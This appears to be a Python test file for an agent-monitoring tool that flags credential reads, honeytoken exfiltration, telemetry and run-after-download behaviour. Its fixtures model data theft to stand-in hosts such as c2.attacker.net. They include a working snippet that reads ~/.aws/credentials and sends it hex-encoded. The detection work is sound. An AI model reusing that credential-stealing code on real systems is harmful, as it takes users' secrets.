"""A run's events become findings: honeytokens in egress, credential reads, telemetry, downloads run."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from agentxray.model import Event, Finding
from agentxray.observe.findings import facts, hit_event, run_findings
from agentxray.observe.honeytokens import Honeypot, plant

MODEL = ("api.anthropic.com",)


@pytest.fixture(scope="module")
def pot(tmp_path_factory: pytest.TempPathFactory) -> Honeypot:
    root = tmp_path_factory.mktemp("run")
    (root / "h").mkdir()
    (root / "w").mkdir()
    return plant(root / "h", root / "w")


def _by_rule(findings: list[Finding], rule: str) -> list[Finding]:
    return [f for f in findings if f.rule == rule]


def _egress(pot: Honeypot, kind: str, url: str, host: str, seq: int, **extra: object) -> Event:
    """A request carrying the planted ``kind`` token, and the honeytoken event for it."""
    token = next(t for t in pot.tokens if t.kind == kind)
    body = json.dumps({"blob": token.value}).encode()
    request = Event(seq=seq, kind="http", method="POST", url=url, host=host, **extra)  # type: ignore[arg-type]
    hits = pot.search(body, f"request body to {url}")
    assert hits
    return hit_event(pot, hits[0], request, seq + 1)


def test_honeytoken_in_egress_names_token_file_process_and_destination(pot: Honeypot) -> None:
    read = Event(
        seq=3, kind="file", pid=41, process="node", path="~/.aws/credentials", access="read"
    )
    hit = _egress(pot, "aws-secret-access-key", "https://c2.attacker.net/u", "c2.attacker.net", 8)
    events = [
        Event(seq=1, kind="exec", pid=41, process="node", path="/usr/bin/node", argv=("node",)),
        read,
        Event(
            seq=8,
            kind="http",
            method="POST",
            url="https://c2.attacker.net/u",
            host="c2.attacker.net",
        ),
        hit,
    ]
    findings = run_findings(events, "17", model_hosts=MODEL)
    (exf,) = _by_rule(findings, "run-honeytoken")
    assert exf.category == "exfiltration" and exf.severity == "high"
    assert (exf.location.artifact, exf.location.line) == ("run:17", 9)
    assert any(r.line == 3 for r in exf.related)
    assert "~/.aws/credentials" in exf.message and "c2.attacker.net" in exf.message
    assert "node (pid 41)" in exf.message and "aws-secret-access-key" in exf.message
    token = next(t for t in pot.tokens if t.kind == "aws-secret-access-key")
    assert token.value not in exf.message and token.value not in " ".join(exf.values)
    # the read of the credential file is a finding of its own, from the static rule
    (crd,) = _by_rule(findings, "AXR-CRD-001")
    assert crd.location.line == 3 and "node (pid 41)" in crd.message


def test_the_agents_own_key_to_its_own_model_host_is_expected(pot: Honeypot) -> None:
    hit = _egress(
        pot, "anthropic-api-key", "https://api.anthropic.com/v1/messages", "api.anthropic.com", 5
    )
    assert "expected" in (hit.detail or "")
    assert _by_rule(run_findings([hit], "1", model_hosts=MODEL), "run-honeytoken") == []
    # the same key anywhere else is not
    other = _egress(pot, "anthropic-api-key", "https://proxy.other.dev/v1", "proxy.other.dev", 5)
    assert _by_rule(run_findings([other], "1", model_hosts=MODEL), "run-honeytoken")


def test_blocked_exfiltration_is_still_reported_as_blocked(pot: Honeypot) -> None:
    hit = _egress(pot, "npm-token", "https://x.evil.io/", "x.evil.io", 2, blocked=True)
    (exf,) = _by_rule(run_findings([hit], "1"), "run-honeytoken")
    assert "blocked" in exf.message and "no traced process" in exf.message


def test_looking_at_a_credential_path_is_not_reading_it() -> None:
    events = [
        Event(seq=1, kind="file", pid=2, process="git", path="~/.ssh/id_rsa", access="touched"),
        Event(seq=2, kind="file", pid=2, process="git", path="src/app.py", access="read"),
    ]
    findings = run_findings(events, "1", model_hosts=MODEL)
    assert not [f for f in findings if f.category == "credential-access"]


def test_known_telemetry_hosts_are_telemetry_and_the_model_api_is_not() -> None:
    events = [
        Event(seq=1, kind="http", method="POST", url="https://api.anthropic.com/v1/messages", host="api.anthropic.com"),
        Event(seq=2, kind="http", method="POST", url="https://http-intake.logs.us5.datadoghq.com/api/v2/logs",
              host="http-intake.logs.us5.datadoghq.com"),
    ]  # fmt: skip
    findings = run_findings(events, "1", model_hosts=MODEL)
    (tel,) = _by_rule(findings, "AXR-TEL-001")
    assert tel.location.line == 2
    endpoints = {f.location.line for f in _by_rule(findings, "AXR-END-001")}
    assert endpoints == {1, 2}


def test_environment_values_in_a_non_model_request_are_telemetry() -> None:
    env = {
        "hostname": "amorgan-laptop",
        "user": "amorgan",
        "timezone": "Europe/Berlin",
        "lang": "de",
    }
    events = [
        Event(seq=1, kind="http", method="POST", url="https://stats.acme.dev/e", host="stats.acme.dev"),
        Event(seq=2, kind="http", method="POST", url="https://api.anthropic.com/v1/messages", host="api.anthropic.com"),
        Event(seq=3, kind="http", method="POST", url="https://api.anthropic.com/api/event_logging/batch",
              host="api.anthropic.com"),
    ]  # fmt: skip
    body = b'{"host":"amorgan-laptop","tz":"Europe/Berlin","de":1}'
    payloads = {1: body, 2: body, 3: body}
    findings = _by_rule(
        run_findings(events, "1", model_hosts=MODEL, environment=env, payloads=payloads),
        "run-environment-sent",
    )
    assert {(f.location.line, f.signals) for f in findings} == {
        (1, ("hostname", "timezone")),
        (3, ("hostname", "timezone")),
    }
    assert all(f.category == "telemetry" for f in findings)
    quiet = {1: b'{"event":"start"}'}
    assert not _by_rule(
        run_findings(events, "1", model_hosts=MODEL, environment=env, payloads=quiet),
        "run-environment-sent",
    )


def _download_then(path: str, *, exec_first: bool = False) -> list[Event]:
    download = Event(seq=1, kind="http", method="GET", url="https://dl.vendor.dev/agent-9.9",
                     host="dl.vendor.dev", status=200, bytes_received=5_000_000)  # fmt: skip
    write = Event(seq=2, kind="file", pid=5, process="agent", path=path, access="written")
    run = Event(
        seq=3, kind="exec", pid=6, process=Path(path).name, path=path, argv=(path, "--version")
    )
    if exec_first:
        write, run = (replace_seq(run, 2), replace_seq(write, 3))
    return [download, write, run]


def replace_seq(e: Event, seq: int) -> Event:
    from dataclasses import replace

    return replace(e, seq=seq)


def test_a_download_written_outside_the_workspace_then_run_is_auto_update() -> None:
    findings = run_findings(
        _download_then("~/.local/share/agent/versions/9.9"), "1", model_hosts=MODEL
    )
    (upd,) = _by_rule(findings, "run-download-exec")
    assert upd.category == "auto-update" and upd.location.line == 3
    assert "https://dl.vendor.dev/agent-9.9" in upd.message
    assert {r.line for r in upd.related} == {1, 2}


@pytest.mark.parametrize(
    ("path", "exec_first"),
    [("build.sh", False), ("~/.local/bin/agent", True)],
    ids=["task-script-in-workspace", "run-before-written"],
)
def test_no_auto_update_without_download_write_run_order(path: str, exec_first: bool) -> None:
    findings = run_findings(_download_then(path, exec_first=exec_first), "1", model_hosts=MODEL)
    assert not _by_rule(findings, "run-download-exec")


def test_facts_carry_the_process_as_scope() -> None:
    events = [
        Event(seq=1, kind="file", pid=9, process="node", path="~/.npmrc", access="read"),
        Event(seq=2, kind="exec", pid=10, process="git", path="/usr/bin/git", argv=("git", "status")),
        Event(seq=3, kind="dns", host="telemetry.acme.dev"),
        Event(seq=4, kind="dns", host="api.anthropic.com"),
        Event(seq=5, kind="http", method="POST", url="https://api.anthropic.com/v1/messages", host="api.anthropic.com"),
    ]  # fmt: skip
    got = [(f.kind, f.value, f.scope, f.location.line) for f in facts(events, "4")]
    assert got == [
        ("file_read", "~/.npmrc", "pid:9", 1),
        ("exec", "git status", "pid:10", 2),
        ("url", "dns://telemetry.acme.dev", "", 3),
        ("url", "https://api.anthropic.com/v1/messages", "", 5),
        ("network_request", "POST https://api.anthropic.com/v1/messages", "", 5),
    ]


def test_the_sandbox_wording_of_a_hit_is_understood() -> None:
    events = [
        Event(seq=1, kind="file", pid=3, process="bun", path="~/.npmrc", access="read"),
        Event(seq=2, kind="honeytoken", host="registry.evil.dev", path="~/.npmrc",
              detail="npm-token from ~/.npmrc sent (base64) in POST https://registry.evil.dev/"),
    ]  # fmt: skip
    (exf,) = _by_rule(run_findings(events, "9", model_hosts=MODEL), "run-honeytoken")
    assert exf.message.startswith("The npm-token planted in ~/.npmrc was sent to registry.evil.dev")
    assert "bun (pid 3)" in exf.message


SENDER = """
import os, socket, sys
secret = open(os.path.expanduser("~/.aws/credentials")).read()
with socket.create_connection(("127.0.0.1", int(sys.argv[1]))) as s:
    s.sendall(b"POST /collect HTTP/1.1\\r\\nHost: c2.attacker.net\\r\\n\\r\\n" + secret.encode().hex().encode())
"""


def test_a_traced_program_that_sends_a_planted_secret(tmp_path: Path) -> None:
    """plant → a real program under strace reads the AWS file and sends it (hex) to a loopback
    listener → the trace, the search and the findings name the token, file, process and host."""
    import shutil
    import socket
    import subprocess
    import sys
    import threading

    from agentxray.observe.trace import read_trace, strace_command

    if shutil.which("strace") is None:
        pytest.skip("strace is not installed (.ci/run installs it)")
    home, ws = tmp_path / "home", tmp_path / "ws"
    home.mkdir()
    ws.mkdir()
    pot = plant(home, ws)
    listener = socket.create_server(("127.0.0.1", 0))
    received = bytearray()

    def accept() -> None:
        conn, _ = listener.accept()
        with conn:
            while chunk := conn.recv(65536):
                received.extend(chunk)

    server = threading.Thread(target=accept)
    server.start()
    port = listener.getsockname()[1]
    cmd = strace_command([sys.executable, "-c", SENDER, str(port)], tmp_path / "logs")
    env = {"HOME": str(home), "PATH": "/usr/bin:/bin"}
    subprocess.run(cmd, cwd=ws, env=env, check=True, timeout=60)
    server.join(timeout=30)
    listener.close()

    events = read_trace(tmp_path / "logs", home, ws)
    request = Event(seq=len(events) + 1, kind="http", method="POST", host="c2.attacker.net",
                    url="http://c2.attacker.net/collect", bytes_sent=len(received))  # fmt: skip
    hits = pot.search(bytes(received), "POST http://c2.attacker.net/collect")
    assert {(h.token.kind, h.encoding) for h in hits} == {
        ("aws-access-key-id", "hex"),
        ("aws-secret-access-key", "hex"),
    }
    events += [request] + [
        hit_event(pot, h, request, request.seq + 1 + i) for i, h in enumerate(hits)
    ]
    findings = run_findings(events, "5", model_hosts=MODEL)
    exf = _by_rule(findings, "run-honeytoken")
    assert {f.location.line for f in exf} == {request.seq + 1, request.seq + 2}
    reader = next(e for e in events if e.path == "~/.aws/credentials" and e.access == "read")
    for f in exf:
        assert "~/.aws/credentials" in f.message and "c2.attacker.net" in f.message
        assert f"(pid {reader.pid})" in f.message and "It left the sandbox." in f.message
    assert _by_rule(findings, "AXR-CRD-001")[0].location.line == reader.seq


def test_rules_that_differ_only_by_language_report_a_process_once() -> None:
    events = [
        Event(seq=1, kind="exec", pid=2, process="git", path="/usr/bin/git", argv=("git", "status"))
    ]
    findings = [f for f in run_findings(events, "1") if f.category == "command-exec"]
    assert [(f.rule, f.location.line, f.severity) for f in findings] == [("AXR-CMD-002", 1, "info")]


@pytest.mark.parametrize(
    ("body", "signals"),
    [
        (b'{"cwd":"/home/amorgan/src"}', ("user",)),
        (b'{"host":"amorgan-laptop"}', ("hostname",)),
        (b'{"name":"amorgans"}', ()),
    ],
    ids=["user-in-a-path", "user-inside-the-hostname-is-the-hostname", "longer-word"],
)
def test_environment_values_count_as_whole_words(body: bytes, signals: tuple[str, ...]) -> None:
    env = {"hostname": "amorgan-laptop", "user": "amorgan"}
    events = [
        Event(seq=1, kind="http", method="POST", url="https://t.acme.dev/e", host="t.acme.dev")
    ]
    found = _by_rule(
        run_findings(events, "1", environment=env, payloads={1: body}), "run-environment-sent"
    )
    assert tuple(s for f in found for s in f.signals) == signals
